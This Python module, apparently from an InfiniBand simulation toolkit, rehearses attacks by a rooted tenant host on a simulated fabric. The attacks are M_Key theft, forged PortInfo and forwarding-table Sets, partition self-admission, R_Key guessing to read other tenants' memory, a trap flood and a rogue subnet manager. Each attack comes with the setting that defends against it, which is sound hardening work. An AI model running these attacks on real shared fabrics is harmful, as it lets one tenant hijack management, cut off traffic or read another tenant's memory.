"""Attacks by a tenant's host on a fabric that softib runs for this purpose (the twin), and the outcome of each. The
attacker has root on its host, so it can send any MAD through its port, and it knows the LIDs.
"""

from __future__ import annotations

import functools
import json
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Literal

import numpy as np

from softib.diags.hardening.rules import OPENSM_KEY
from softib.iba.constants import Method, MgmtClass, SmpAttr
from softib.iba.notice import Notice, TrapLinkState
from softib.iba.sa import JoinState, MCMemberRecord, PathRecord, PortInfoRecord, SaMethod
from softib.iba.smp import DATA_AT, LinearForwardingTable, MadHeader, PKeyTable, PortInfo
from softib.live.clock import clock_ps
from softib.live.umad_client.port import UmadPort
from softib.live.umad_client.wire import smp_get, smp_set, transact
from softib.mad.batch import MadBatch
from softib.result import Result
from softib.scratch import scratch_folder
from softib.tenants.administration import ask_administration
from softib.tenants.key_guess import TRIES

__all__ = ["ATTACKS", "Attempt", "Stage", "rehearse"]

Outcome = Literal["stopped", "got through", "not needed", "not tried"]
STOPPED: Outcome = "stopped"
THROUGH: Outcome = "got through"
NOT_NEEDED: Outcome = "not needed"
NOT_TRIED: Outcome = "not tried"
LFT_BLOCK, PKEY_BLOCK, BASE, FULL = 64, 32, 0x7FFF, 0x8000
UNCHANGED = (PortInfo.port_state, PortInfo.port_phys_state)
"""Fields of a Set in which 0 means no change (IBA 14.2.5.6)."""
MANAGER_S = 15.0
"""Time for which the attacker's manager runs after its discovery: longer than OpenSM's sweep interval of 10 s, after
which a master detects other managers."""
BEGINS_S = 120.0
"""Maximum time for the discovery by the attacker's manager. The limit only ends a hang."""
ELECTED = re.compile("now (STANDBY|MASTER|NOT_ACTIVE)|: sweep: ")
"""Lines that a manager prints after its discovery (IBA 14.4.1), or after a sweep in which no other port answered."""
FLOOD, FLOOD_BATCH, SWEEPS = 5_000, 250, 500
"""``FLOOD``: number of forged traps. ``FLOOD_BATCH``: number of traps between two queries to the subnet administration.
``SWEEPS``: maximum number of sweeps after which the flood counts as harmless, because the manager combined traps.
Sweeps are counted because their duration depends on the load.
"""
PATIENCE_S = 10.0
"""Time for which attacker and victim wait for an answer of the subnet administration. Programs repeat a query until
then.
"""
GUESS_S = 120.0
LINK_STATE, URGENT, SWITCH = 128, 1, 2
_ask = functools.partial(ask_administration, patience_s=PATIENCE_S)
GROUP, QKEY = (0xFF12401B80010000, 0x5EED), 0x0B1B
"""A multicast group of the rehearsal: transient, link-local (IBA 4.1.1)."""


@dataclass(frozen=True)
class Attempt(Result):
    """One attack on the twin, and its outcome."""

    attack: str
    """Name of the attack."""
    clause: str
    """Clause of the specification that defines the defence."""
    outcome: Outcome
    """``not needed``: the attacker gains no advantage in this case."""
    seen: str
    """What was observed."""
    advice: str
    """The settings that prevent the attack; empty if it did not succeed."""


@dataclass
class Stage:
    """A running fabric for the rehearsal. ``attacker`` and ``victim``: two hosts, with their wires, LIDs and PortGUIDs.
    ``trusted``: the manager's wire, which uses the M_Key ``mkey``. ``leaf``: LID of the victim's switch. ``gates``:
    (LID, port) of the switch ports to both hosts. ``run`` starts a program on a node. ``sweeps`` returns the number of
    the manager's sweeps. ``key``: the M_Key that the attacker has obtained in an earlier attack.
    """

    attacker: str
    victim: str
    wires: dict[str, UmadPort]
    lids: dict[str, int]
    guids: dict[str, int]
    trusted: UmadPort
    mkey: int
    leaf: int
    gates: list[tuple[int, int]]
    run: Callable[[str, list[str]], subprocess.Popen[str]]
    sweeps: Callable[[], int]
    key: int = field(default=0)

    def attack(self, request: MadBatch) -> np.ndarray | None:
        """Return the answer to one SMP of the attacker."""
        return transact(self.wires[self.attacker], request)

    def truth(self, attr: SmpAttr, lid: int, modifier: int = 0) -> np.ndarray:
        """Return an attribute (uint8[64]) as the manager reads it."""
        answer = transact(self.trusted, smp_get(attr, modifier, lid, self.mkey))
        return np.zeros(64, np.uint8) if answer is None else answer

    def restore(self, attr: SmpAttr, data: np.ndarray, lid: int, modifier: int = 0) -> None:
        """Restore, with the manager's M_Key, the values that an attack changed."""
        transact(self.trusted, smp_set(attr, data, modifier, lid, self.mkey))

    @property
    def master(self) -> int:
        """LID of the master according to the victim's port."""
        return int(PortInfo.master_sm_lid.get(self.truth(SmpAttr.PORT_INFO, self.lids[self.victim])))


def mkey_from_port(s: Stage) -> tuple[Outcome, str]:
    """Get(PortInfo) of a port of another host."""
    if not s.mkey:
        return NOT_NEEDED, "there is no M_Key to be read"
    info = s.attack(smp_get(SmpAttr.PORT_INFO, 0, s.lids[s.victim]))
    if info is None:
        return STOPPED, f"{s.victim} does not answer without the M_Key"
    shown = int(PortInfo.mkey.get(info))
    s.key = shown or s.key
    return (THROUGH, f"{s.victim} shows its M_Key") if shown else (STOPPED, f"{s.victim} answers with an M_Key of 0")


def mkey_from_administration(s: Stage) -> tuple[Outcome, str]:
    """SubnAdmGet(PortInfoRecord), without an SM_Key and with OpenSM's default key."""
    if not s.mkey:
        return NOT_NEEDED, "there is no M_Key to be read"
    for sm_key in (0, OPENSM_KEY):
        fields = {"endport_lid": s.lids[s.victim]}
        answer = _ask(s.wires[s.attacker], s.master, PortInfoRecord, fields, sm_key)
        if answer.good and int(PortInfoRecord.mkey.get(answer.record)):  # type: ignore[attr-defined]
            s.key = int(PortInfoRecord.mkey.get(answer.record))  # type: ignore[attr-defined]
            return THROUGH, f"the subnet administration gives the M_Key to a request with SM_Key {sm_key:#x}"
    return STOPPED, "the subnet administration keeps the M_Key to itself"


def port_info_set(s: Stage) -> tuple[Outcome, str]:
    """Set(PortInfo): the attacker names itself the victim's manager."""
    lid, mine = s.lids[s.victim], s.lids[s.attacker]
    before = s.truth(SmpAttr.PORT_INFO, lid)
    forged = before.copy()
    PortInfo.master_sm_lid.set(forged, mine)
    for same in UNCHANGED:
        same.set(forged, 0)
    s.attack(smp_set(SmpAttr.PORT_INFO, forged, 1, lid, s.key))
    if int(PortInfo.master_sm_lid.get(s.truth(SmpAttr.PORT_INFO, lid))) != mine:
        return STOPPED, f"{s.victim} keeps its manager"
    for same in UNCHANGED:
        same.set(before, 0)
    s.restore(SmpAttr.PORT_INFO, before, lid, 1)
    return THROUGH, f"{s.victim} took {s.attacker} for its manager"


def forwarding_table_set(s: Stage) -> tuple[Outcome, str]:
    """Set(LinearForwardingTable): no packet reaches the victim's LID any more."""
    block, entry = divmod(s.lids[s.victim], LFT_BLOCK)
    before = s.truth(SmpAttr.LFT, s.leaf, block)
    forged = before.copy()
    forged[entry] = 0xFF
    s.attack(smp_set(SmpAttr.LFT, forged, block, s.leaf, s.key))
    if int(LinearForwardingTable.port.get(s.truth(SmpAttr.LFT, s.leaf, block))[entry]) != 0xFF:
        return STOPPED, f"the switch of {s.victim} keeps its table"
    s.restore(SmpAttr.LFT, before, s.leaf, block)
    return THROUGH, f"the switch of {s.victim} drops packets to it"


def self_admission(s: Stage) -> tuple[Outcome, str]:
    """Set(P_KeyTable) of the attacker's own port: a partition of the victim, as full member."""
    table = PKeyTable.pkey.get(s.truth(SmpAttr.PKEY_TABLE, s.lids[s.attacker]))
    wanted = _wanted(s)
    if not wanted:
        return NOT_NEEDED, f"{s.attacker} is a full member of each partition of {s.victim}"
    free = int(np.flatnonzero(table == 0)[0]) if (table == 0).any() else PKEY_BLOCK - 1
    forged = table.copy()
    same = np.flatnonzero((table & BASE) == wanted)
    forged[int(same[0]) if len(same) else free] = wanted | FULL
    s.attack(smp_set(SmpAttr.PKEY_TABLE, PKeyTable.pack(pkey=forged), 0, s.lids[s.attacker], s.key))
    s.attack(smp_set(SmpAttr.PKEY_TABLE, PKeyTable.pack(pkey=forged), 0, mkey=s.key))
    if (wanted | FULL) not in _keys(s, s.attacker):
        return STOPPED, f"{s.attacker} cannot write P_Key {wanted | FULL:#06x} into its own table"
    return THROUGH, f"{s.attacker} made itself a full member of P_Key {wanted | FULL:#06x}"


def enforcement_off(s: Stage) -> tuple[Outcome, str]:
    """Set(PortInfo) of the switch ports towards both hosts: no P_Key is checked there."""
    checks = lambda lid, port: int(PortInfo.partition_enforcement_inbound.get(s.truth(SmpAttr.PORT_INFO, lid, port)))
    checked = [(lid, port) for lid, port in s.gates if checks(lid, port)]
    if not checked:
        return NOT_NEEDED, f"no switch port checks the P_Keys of {s.attacker} and {s.victim}"
    for lid, port in checked:
        forged = s.truth(SmpAttr.PORT_INFO, lid, port)
        for value in (*UNCHANGED, PortInfo.partition_enforcement_inbound, PortInfo.partition_enforcement_outbound):
            value.set(forged, 0)
        s.attack(smp_set(SmpAttr.PORT_INFO, forged, port, lid, s.key))
    if any(checks(lid, port) for lid, port in checked):
        return STOPPED, f"switch ports go on to check the P_Keys of {s.attacker} and {s.victim}"
    return THROUGH, f"no switch port checks the P_Keys of {s.attacker} and {s.victim} any more"


def packets_across(s: Stage) -> tuple[Outcome, str]:
    """RDMA writes with a P_Key of the victim that the attacker must not have."""
    key = _shared(s)
    if not key:
        return STOPPED, f"{s.attacker} has no P_Key in which {s.victim} would take a packet"
    if shutil.which("ib_write_bw") is None:
        return NOT_TRIED, "ib_write_bw is not installed (package perftest)"
    done = _write(s, _keys(s, s.victim).index(key), _keys(s, s.attacker).index(key | FULL))
    if done:
        return THROUGH, f"{s.attacker} wrote into the memory of {s.victim} with P_Key {key | FULL:#06x}"
    return STOPPED, f"packets of {s.attacker} with P_Key {key | FULL:#06x} did not reach {s.victim}"


def key_guess(s: Stage) -> tuple[Outcome, str]:
    """RDMA READs with guessed R_Keys, as a client of a program on the victim (see
    :mod:`softib.tenants.key_guess`)."""
    port, program = str(_free_port()), [sys.executable, "-m", "softib.tenants.key_guess"]
    one = s.run(s.victim, [*program, "serve", port])
    try:
        line = one.stdout.readline() if one.stdout is not None else ""
        if not line.startswith("listening "):
            return NOT_TRIED, f"the program on {s.victim} does not run: {line.strip()[:200]}"
        two = s.run(s.attacker, [*program, "guess", line.split()[1], port])
        try:
            output = two.communicate(timeout=GUESS_S)[0]
        except subprocess.TimeoutExpired:
            two.kill()
            two.communicate()
            return STOPPED, f"{s.attacker} read no memory within {GUESS_S:.0f} s"
    finally:
        one.terminate()
        one.communicate(timeout=30)
    try:
        result = json.loads(output.splitlines()[-1])
    except (ValueError, IndexError):
        return NOT_TRIED, f"the program on {s.attacker} does not run: {output.strip()[-200:]}"
    if result["why"]:
        # The attacker's program asked the subnet administration for a path. A program that builds its packets itself
        # needs no answer.
        outcome = NOT_TRIED if _shared(s) else STOPPED
        return outcome, f"{s.attacker} gets no connection to {s.victim}: {result['why']}"
    for name, owner in (("same", "another client's buffer"), ("other", "a buffer in another protection domain")):
        if result[name]:
            return THROUGH, f"{s.attacker} read {owner} on {s.victim} with guess {result[name]} of its R_Key"
    return STOPPED, f"{2 * TRIES} guesses of R_Keys read nothing on {s.victim}"


def group_leave(s: Stage) -> tuple[Outcome, str]:
    """SubnAdmDelete(MCMemberRecord) with the GID of the victim: it leaves a group."""
    info = s.truth(SmpAttr.PORT_INFO, s.lids[s.victim])
    prefix = int(PortInfo.gid_prefix.get(info))
    fields = {"mgid": GROUP, "port_gid": (prefix, s.guids[s.victim]), "join_state": JoinState.FULL}
    key = next((k for k in _keys(s, s.victim) if k), 0xFFFF)
    record = {"qkey": QKEY, "pkey": key | FULL, "sl": 0, "flow_label": 0, "tclass": 0}
    joined = _ask(s.wires[s.victim], s.master, MCMemberRecord, {**fields, **record}, 0, SaMethod.SET)
    if not joined.good:
        return NOT_TRIED, f"{s.victim} cannot join a group itself (status {joined.status})"
    removed = _ask(s.wires[s.attacker], s.master, MCMemberRecord, fields, 0, SaMethod.DELETE)
    _ask(s.wires[s.victim], s.master, MCMemberRecord, fields, 0, SaMethod.DELETE)
    if removed.good:
        return THROUGH, f"{s.attacker} removed {s.victim} from its multicast group"
    return STOPPED, f"the subnet administration refuses to remove {s.victim} from its group for {s.attacker}"


def foreign_manager(s: Stage) -> tuple[Outcome, str]:
    """A subnet manager of priority 15 on the attacker's host, with the M_Key that the attacker has
    and OpenSM's default SM_Key."""
    mine = s.lids[s.attacker]
    with scratch_folder("rehearsal") as folder:
        options = folder / "opensm.conf"
        options.write_text(f"m_key {s.key:#x}\nsm_priority 15\nsweep_interval 2\n")
        command = [sys.executable, "-m", "softib", "sm", "run", "--sm-config", str(options)]
        program = s.run(s.attacker, [*command, "--priority", "15", "--guid2lid", f"{folder}/guid2lid"])
        lines = list[str]()
        output = program.stdout or ()
        reader = threading.Thread(target=lambda: lines.extend(output), daemon=True)
        reader.start()
        began, until = time.monotonic(), None
        try:
            while s.master != mine:
                if until is None and any(ELECTED.search(line) for line in list(lines)):
                    until = time.monotonic() + MANAGER_S
                over = time.monotonic() > (began + BEGINS_S if until is None else until)
                if not over and program.poll() is None:
                    time.sleep(0.25)
                elif until is None and not any("begin: port" in line for line in list(lines)):
                    return NOT_TRIED, f"the manager on {s.attacker} does not run: {''.join(lines[-1:]).strip()[:200]}"
                else:
                    return STOPPED, f"{s.victim} keeps its manager while one of priority 15 runs on {s.attacker}"
            return THROUGH, f"the manager of {s.attacker} is the master of {s.victim}"
        finally:
            program.terminate()
            program.wait(timeout=30)
            reader.join(timeout=30)


def trap_flood(s: Stage) -> tuple[Outcome, str]:
    """Forged traps 128 in the name of a switch, while the victim queries a path."""
    wire, master, before = s.wires[s.attacker], s.master, s.sweeps()
    fields = {"slid": s.lids[s.victim], "dlid": s.lids[s.attacker]}
    worst, unanswered = 0.0, 0
    for sent in range(0, FLOOD, FLOOD_BATCH):
        wire.exchange(_traps(sent, master, s.leaf))
        began = clock_ps()
        answer = _ask(s.wires[s.victim], master, PathRecord, fields)
        worst = max(worst, (clock_ps() - began) / 1e12)
        unanswered += answer.status is None
    made = s.sweeps() - before
    sweeps = f"{FLOOD} forged traps made {made} sweeps"
    if unanswered:
        return THROUGH, f"{sweeps}, and {unanswered} of {FLOOD // FLOOD_BATCH} queries of {s.victim} got no answer"
    waits = f"{s.victim} waited at most {worst * 1e3:.0f} ms for a path"
    return (THROUGH if made > SWEEPS else STOPPED), f"{sweeps}, and {waits}"


KEYED = "set m_key and m_key_protection_level 2"
ATTACKS: tuple[tuple[str, str, Callable[[Stage], tuple[Outcome, str]], str], ...] = (
    ("mkey-from-port", "IBA 14.2.4.1", mkey_from_port, KEYED),
    ("mkey-from-administration", "IBA 15.4.1", mkey_from_administration, "set sa_key to a value that no one knows"),
    ("port-info-set", "IBA 14.2.4", port_info_set, KEYED),
    ("forwarding-table-set", "IBA 14.2.4", forwarding_table_set, KEYED),
    ("self-admission", "IBA 10.9.2", self_admission, KEYED),
    ("enforcement-off", "IBA 14.2.4", enforcement_off, KEYED),
    ("packets-across", "IBA 10.9.3", packets_across, "set part_enforce both, and the default partition to limited"),
    (
        "key-guess",
        "IBA 10.2.3",
        key_guess,
        "give each client of a program its protection domain",
    ),
    ("group-leave", "IBA 15.2.5.17", group_leave, "no setting does: it is a fault of the manager"),
    ("trap-flood", "IBA 14.2.5.1", trap_flood, "set babbling_port_policy TRUE"),
    ("foreign-manager", "IBA 14.4", foreign_manager, "set m_key, m_key_protection_level 2 and a sm_key of your own"),
)
"""(attack, clause that defines the defence, function, protection), in the order of the rehearsal. Attacks on keys come
first, because later ones use these keys; attacks after which the twin has no manager come last.
"""


NEED_KEY = {"port-info-set", "forwarding-table-set", "self-admission", "enforcement-off", "foreign-manager"}
"""Attacks that do not succeed if the attacker does not know the M_Key."""


def rehearse(stage: Stage) -> Iterator[Attempt]:
    """Try every attack. Advantages from an attack remain for later attacks: keys, the victim's P_Key, disabled checks.
    If the attacker has obtained the M_Key, the advice about a later attack that needs it is therefore the advice that
    protects the M_Key.
    """
    keeps_key, through = "", set[str]()
    for attack, clause, attempt, advice in ATTACKS:
        had = stage.key
        outcome, seen = attempt(stage)
        if outcome == THROUGH:
            through.add(attack)
            if stage.key and not had:
                keeps_key = advice
            elif keeps_key and (attack in NEED_KEY or (attack == "packets-across" and "self-admission" in through)):
                advice = keeps_key
        yield Attempt(attack, clause, outcome, seen, advice if outcome == THROUGH else "")


def _keys(s: Stage, host: str) -> list[int]:
    """Return the first block of the host's P_Key table."""
    return [int(k) for k in PKeyTable.pkey.get(s.truth(SmpAttr.PKEY_TABLE, s.lids[host]))]


def _shared(s: Stage) -> int:
    """Return a P_Key of the victim with which the attacker is a full member, preferably not the default P_Key; 0 if
    there is none.
    """
    mine = _keys(s, s.attacker)
    shared = [k for k in _keys(s, s.victim) if k and (k | FULL) in mine]
    return min(shared, key=lambda key: key & BASE == BASE, default=0)


def _wanted(s: Stage) -> int:
    """Return a P_Key of the victim (without the membership bit) with which the attacker is not a full member,
    preferably not the default P_Key; 0 if there is none.
    """
    mine = _keys(s, s.attacker)
    lacking = [k & BASE for k in _keys(s, s.victim) if k & BASE and (k | FULL) not in mine]
    return min(lacking, key=lambda base: base == BASE, default=0)


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _write(s: Stage, server: int, client: int) -> bool:
    """Return whether RDMA writes of the attacker with its P_Key at index ``client`` arrive."""
    port = str(_free_port())
    program = ["ib_write_bw", "-n", "50", "-s", "4096", "-F", "-p", port]
    one = s.run(s.victim, [*program, f"--pkey_index={server}"])
    try:
        until = time.monotonic() + MANAGER_S
        while True:
            two = s.run(s.attacker, [*program, f"--pkey_index={client}", "127.0.0.1"])
            try:
                output = two.communicate(timeout=60)[0]
            except subprocess.TimeoutExpired:
                two.kill()
                two.communicate()
                return False
            if "Couldn't connect" not in output or time.monotonic() > until:
                return two.returncode == 0
            time.sleep(0.2)
    finally:
        one.terminate()
        one.communicate(timeout=30)


def _traps(first: int, master: int, issuer: int) -> MadBatch:
    """Return a batch of traps 128 (IBA 14.2.5.1) to LID ``master`` in the name of LID
    ``issuer``."""
    batch = MadBatch.zeros(FLOOD_BATCH)
    notice = Notice.pack(is_generic=1, type=URGENT, producer_type=SWITCH, trap_number=LINK_STATE, issuer_lid=issuer)
    details = TrapLinkState.pack(lid=issuer)
    notice[Notice.data_details.byte : Notice.data_details.byte + len(details)] = details
    for i in range(FLOOD_BATCH):
        batch.mad[i, : MadHeader.size] = MadHeader.pack(
            base_version=1,
            mgmt_class=int(MgmtClass.SUBN_LID),
            class_version=1,
            method=int(Method.TRAP),
            attr_id=int(SmpAttr.NOTICE),
            tid=first + i + 1,
        )
        batch.mad[i, DATA_AT : DATA_AT + len(notice)] = notice
    batch.dlid[:] = master
    return batch
